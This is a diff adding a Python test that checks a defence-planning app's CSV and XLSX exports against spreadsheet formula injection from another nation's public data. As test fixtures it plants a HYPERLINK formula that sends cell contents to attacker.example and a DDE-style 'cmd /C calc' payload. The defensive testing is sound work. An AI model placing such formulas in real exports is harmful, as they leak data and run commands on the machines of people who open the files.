@@ -51,3 +51,53 @@ def test_a_nations_tours_as_a_calendar(api: Api, tmp_path: Path) -> None:
     assert events == len(tours) - 1 > 0 and "DTSTART;VALUE=DATE:2027" in text and "planning assumption" in text
     assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
     assert api.get(f"/plans/{plan}/tours.ics", "DEU").status_code == 404
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def _evaluated_cells(text: str) -> list[str]:
+    """Return the CSV cells a spreadsheet would read as a formula (numbers aside: -3 is a number, not a formula)."""
+    import csv
+
+    found = []
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            try:
+                float(cell)
+            except ValueError:
+                if cell.startswith(FORMULA_STARTS):
+                    found.append(cell)
+    return found
+
+
+def test_spreadsheets_carry_no_formula_from_another_nations_public_data(api: Api, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://attacker.example/?"&A3,"click")'
+    api.load_sample(tmp_path)
+    from reassure.db.uow import unit_of_work
+    from reassure.domains.pledges.models import Pledge
+    from tests.conftest import who
+
+    with unit_of_work(api.settings, identity=who("FRA")) as db:  # a PUBLIC note another nation wrote
+        for pledge in db.query(Pledge):
+            pledge.notes = hostile
+    api.ingest(tmp_path, "time_start,time_end,model,launched,destroyed,target\n"
+               "2025-01-01 18:00,2025-01-02 08:00,Shahed-136/131,10,9,@SUM(1+1)*cmd|' /C calc'!A0\n", nation="FRA")
+    plan = api.store_sample_plan("FRA")
+    for path in ("/scenarios/small/pledges.csv", "/incidents.csv", "/indicators.csv", f"/plans/{plan}/tours.csv"):
+        answer = api.get(path, "GBR")
+        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"), path
+        assert not answer.content.startswith(b"\xef\xbb\xbf")  # no byte-order mark unless asked for
+        assert _evaluated_cells(answer.text) == [], path
+        marked = api.get(path, "GBR", bom="true")
+        assert marked.content == b"\xef\xbb\xbf" + answer.content, path
+    import csv
+
+    notes = [r["notes"] for r in csv.DictReader(io.StringIO(api.get("/scenarios/small/pledges.csv", "GBR").text))]
+    assert notes == [f"'{hostile}"] * 2
+    assert "'@SUM(1+1)" in api.get("/incidents.csv", "GBR").text
+    sheet = load_workbook(io.BytesIO(api.get("/scenarios/small/pledges.xlsx", "GBR").content)).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [c.value for c in cells if c.value == hostile] == [hostile, hostile]
